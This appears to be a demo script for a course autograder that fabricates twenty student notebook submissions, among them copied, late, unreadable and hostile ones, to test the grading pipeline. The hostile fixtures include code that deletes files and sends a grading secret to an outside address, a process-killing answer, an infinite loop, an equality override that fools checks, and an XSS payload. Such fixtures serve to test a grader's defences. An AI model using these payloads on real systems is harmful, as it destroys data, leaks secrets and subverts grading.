"""The whole way from a release to the marks, on made-up submissions: `make demo-grading`.

Twenty students hand in A1: right, partly right, copied, late, under odd names, unreadable, and
hostile.  Everything lies in _build/demo-grading/ afterwards.
"""

import csv
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path

import numpy as np

from unrolled import assignments
from unrolled.grading.release import read, solutions

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "_build" / "demo-grading"
SOURCE = ROOT / "lab" / "assignments" / "A1_windows.ipynb"
DEADLINE = "2026-11-20 18:00"
NAMES = (
    "Ada Lovelace", "Alan Turing", "Grace Hopper", "Emmy Noether", "Sofia Kovalevskaya", "Srinivasa Ramanujan", "Carl Gauss",
    "Mary Somerville", "Henri Poincaré", "Hypatia Theon", "Kurt Gödel", "Maryam Mirzakhani", "Leonhard Euler", "Sophie Germain",
    "John Neumann", "Katherine Johnson", "Évariste Galois", "Florence Nightingale", "Blaise Pascal", "Émilie Châtelet",
)  # fmt: skip

OFF_BY_ONE = {"windows": ("window - horizon + 1", "window - horizon")}
LEAKING = {"scale": ("parts[0].mean(axis=0), parts[0].std(axis=0)", "np.concatenate(parts).mean(axis=0), np.concatenate(parts).std(axis=0)")}
NEVER_WRONG = {"compare": ("bool(model < persistence)", "True"), "rmse": ("np.ravel(y) - np.ravel(prediction)", "y - prediction")}

# Right answers in a style of their own, which somebody copies.
OWN_STYLE = {
    "overlap": """def sees_training(train_starts, test_starts, span):
    rows = set()
    for start in train_starts:
        rows.update(range(start, start + span))
    found = [bool(rows & set(range(start, start + span))) for start in test_starts]
    return np.array(found, dtype=bool)""",
    "scale": """def scale_parts(parts):
    train = np.array(parts[0], dtype=float)
    center = train.sum(axis=0) / len(train)
    spread = np.sqrt(((train - center) ** 2).sum(axis=0) / len(train))
    spread[train.max(axis=0) == train.min(axis=0)] = 1.0
    scaled = []
    for part in parts:
        scaled.append((part - center) / spread)
    return scaled, center, spread""",
}

LOOP = "def sees_training(train_starts, test_starts, span):\n    while True:\n        pass"
DIE = "import os\ndef {head}\n    os.kill(os.getppid(), 9)\n    os._exit(1)"
STEAL = """import glob, os, socket
def make_windows(series, window, horizon, target):
    for path in glob.glob("/*") + glob.glob("/*/*"):
        try:
            os.remove(path)
        except Exception:
            pass
    socket.create_connection(("198.51.100.7", 80), timeout=1).sendall(open("/work/grading/secret").read().encode())"""
EQUAL = """class Right(np.ndarray):
    def __eq__(self, other):
        return True

def rmse_in_units(y, prediction, center, spread):
    return np.zeros(1).view(Right)"""
SCRIPT = """<script>document.body.innerHTML = 'Full marks'</script> <img src=x onerror=alert(1)>

The windows overlap, so that test windows have twins in training."""


def own_numbers(student, right):
    """The answer to A1's question about a student's own data, computed with the right answers."""
    names = {"np": np}
    for answer in right.values():
        exec(answer, names)
    load = assignments.data("A1", student)
    how = load.window, load.horizon, load.target
    parts = names["split_in_order"](load.series, load.sizes, load.window + load.horizon - 1)
    train, test = names["make_windows"](parts[0], *how), names["make_windows"](parts[2], *how)
    _, center, spread = names["scale_parts"](parts)
    numbers = {
        "train_examples": len(train[0]),
        "test_examples": len(test[0]),
        "center": round(float(center[load.target]), 5),
        "spread": round(float(spread[load.target]), 5),
        "persistence_rmse": round(float(names["compare_with_persistence"](*test, test[1], load.target)["persistence"]), 5),
    }
    return f"def my_numbers():\n    return {numbers}"


def submission(released, answers, student, written=None):
    """The bytes of a released notebook (a dict) with these answers in it, by question."""
    notebook = json.loads(json.dumps(released))
    given = {f"answer-{name}": text for name, text in answers.items()} | {f"written-{name}": text for name, text in (written or {}).items()}
    for cell in notebook["cells"]:
        source = "".join(cell["source"])
        cell["source"] = given.get(cell["id"], re.sub(r'^STUDENT_ID = ""', f'STUDENT_ID = "{student}"', source, flags=re.M))
    return json.dumps(notebook, indent=1).encode()


def renamed(answers):
    """The answers as somebody copies them who changes names and comments alone."""
    words = {"series": "data", "parts": "pieces", "center": "mu", "spread": "sigma", "error": "difference", "model": "network"}

    def other(text):
        return "# my own work\n" + re.sub(r"\w+", lambda match: words.get(match[0], match[0]), text)

    return {name: text if name in ("own", "compare") else other(text) for name, text in answers.items()}


def class_of_twenty(released, source):
    """For each student's id: (name, file name, bytes, when), where there is any file."""
    right = solutions(source)
    del right["own"]
    written = {
        "leak": "Neighboring windows share rows, so test windows have twins in training; and the scaler saw the test hours. Cut by time and compare.",
        "context": "No: past hours are known when a forecast is made. Without context the first hours would go untested.",
    }

    def work(student, changes=(), extra=(), text=written):
        answers = right | {"own": own_numbers(student, right)}
        for question, (old, new) in dict(changes).items():
            assert old in answers[question], f"{old!r} is no longer in the solution of {question}"
            answers[question] = answers[question].replace(old, new)
        return submission(released, answers | dict(extra), student, text)

    ids = [f"s{1001 + number}" for number in range(len(NAMES))]
    heads = {name: text.partition("\n")[0].removeprefix("def ") for name, text in right.items()} | {"own": "my_numbers():"}
    sixth = right | OWN_STYLE | {"own": own_numbers(ids[5], right)}
    files = [work(student) for student in ids]
    files[6] = work(ids[6], OFF_BY_ONE)
    files[7] = work(ids[7], LEAKING)
    files[8] = work(ids[8], NEVER_WRONG, {"overlap": "def sees_training(train_starts, test_starts, span):\n    raise NotImplementedError()"})
    files[9] = submission(released, {}, "", {"leak": "I ran out of time."})
    files[5] = submission(released, sixth, ids[5], written)
    files[10] = submission(released, sixth, ids[5], written)  # the same file
    files[11] = submission(released, renamed(sixth), ids[11], written)  # with other names, but the other's numbers
    files[12] = work(ids[12], extra={"overlap": LOOP})
    files[13] = submission(released, {name: DIE.format(head=head) for name, head in heads.items()}, ids[13], written)
    files[14] = work(ids[14], extra={"windows": STEAL, "rmse": EQUAL})
    files[15] = work(ids[15], text={"leak": SCRIPT, "context": SCRIPT})
    files[16] = b"%PDF-1.7 my solutions, printed"
    files[17] = files[17][: len(files[17]) // 2]
    files[18] = None
    named = {2: "A1_windows (1).ipynb", 3: "A1_windows - Copy.ipynb", 4: "Kovalevskaya final FINAL.ipynb", 16: "A1.pdf"}
    late = {1, 8}
    return {
        student: (NAMES[number], named.get(number, "A1_windows.ipynb"), data, datetime(2026, 11, 20, 21 if number in late else 12, number))
        for number, (student, data) in enumerate(zip(ids, files, strict=True))
        if data is not None
    }


def moodle_archive(handed_in):
    """What Moodle gives for "Download all submissions", as bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, file, data, when) in enumerate(handed_in.values()):
            info = zipfile.ZipInfo(f"{name}_{40210 + number}_assignsubmission_file_/{file}", when.timetuple()[:6])
            archive.writestr(info, data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def command(*words):
    """Runs the instructor's command in the demonstration's folder, as it would be typed."""
    words = ["--course", "course", *words]
    print(f"\n$ python -m unrolled.grading {' '.join(word if word.isprintable() and ' ' not in word else repr(word) for word in words)}", flush=True)
    done = subprocess.run([sys.executable, "-m", "unrolled.grading", *words], cwd=DEMO)
    if done.returncode:
        sys.exit(done.returncode)


def main():
    shutil.rmtree(DEMO, ignore_errors=True)
    DEMO.mkdir(parents=True)
    students = [f's{1001 + number},"{name}",s{1001 + number}@example.org' for number, name in enumerate(NAMES)]
    (DEMO / "students.csv").write_text("\n".join(["id,name,email", *students, ""]), "utf-8")
    command("init", "students.csv")
    command("release", "A1")
    released = json.loads((DEMO / "course" / "release" / "A1" / SOURCE.name).read_text("utf-8"))
    handed_in = class_of_twenty(released, read(SOURCE))
    (DEMO / "from_the_lms.zip").write_bytes(moodle_archive(handed_in))
    command("collect", "A1", "from_the_lms.zip", "--deadline", DEADLINE)
    command("grade", "A1")
    command("similarity", "A1")
    command("feedback", "A1")
    command("export", "A1")
    with open(DEMO / "course" / "grading" / "A1" / "marks.csv", encoding="utf-8-sig", newline="") as file:
        print(f"\n{'student':8} {'name':22} {'status':14} {'score':>5}   notes")
        for row in csv.DictReader(file):
            print(f"{row['student']:8} {row['name']:22} {row['status']:14} {row['score']:>5}   {row['notes']}")
    print("\nA feedback page to look at:", DEMO / "course" / "feedback" / "s1007" / "A1" / "A1_windows.html")
    print("The page about similar answers:", DEMO / "course" / "grading" / "A1" / "similarity.html")


if __name__ == "__main__":
    main()
